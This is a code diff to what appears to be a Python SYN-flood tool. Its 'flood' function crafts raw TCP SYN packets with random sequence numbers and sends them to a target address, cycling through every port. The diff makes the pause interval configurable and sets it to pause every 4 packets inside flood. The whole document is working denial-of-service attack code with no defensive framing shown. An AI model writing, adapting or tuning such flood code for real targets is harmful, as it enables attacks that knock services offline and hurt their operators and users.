@@ -58,10 +58,10 @@ def _syn(port: int, pseudo: bytes, sequence: int) -> bytes:
     return header[:16] + struct.pack("!H", check) + header[18:]
 
 
-def _pace(ports: Iterable[int]) -> Iterator[int]:
+def _pace(ports: Iterable[int], burst: int = 512) -> Iterator[int]:
     """Pause now and then, so that the queues between here and there never run over."""
     for count, port in enumerate(ports):
-        if count % 512 == 511:
+        if count % burst == burst - 1:
             time.sleep(0.001)
         yield port
 
@@ -144,7 +144,7 @@ def flood(address: str) -> None:
     pseudo = socket.inet_aton(_own_address(family, place)) + socket.inet_aton(str(place[0]))
     with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP) as sender:
         sender.connect((place[0], 0))
-        for port in _pace(itertools.cycle(EVERY)):
+        for port in _pace(itertools.cycle(EVERY), burst=4):
             _send(sender, _syn(port, pseudo + struct.pack("!BBH", 0, 6, 20), random.getrandbits(32)))
             if not stop.is_alive():
                 break
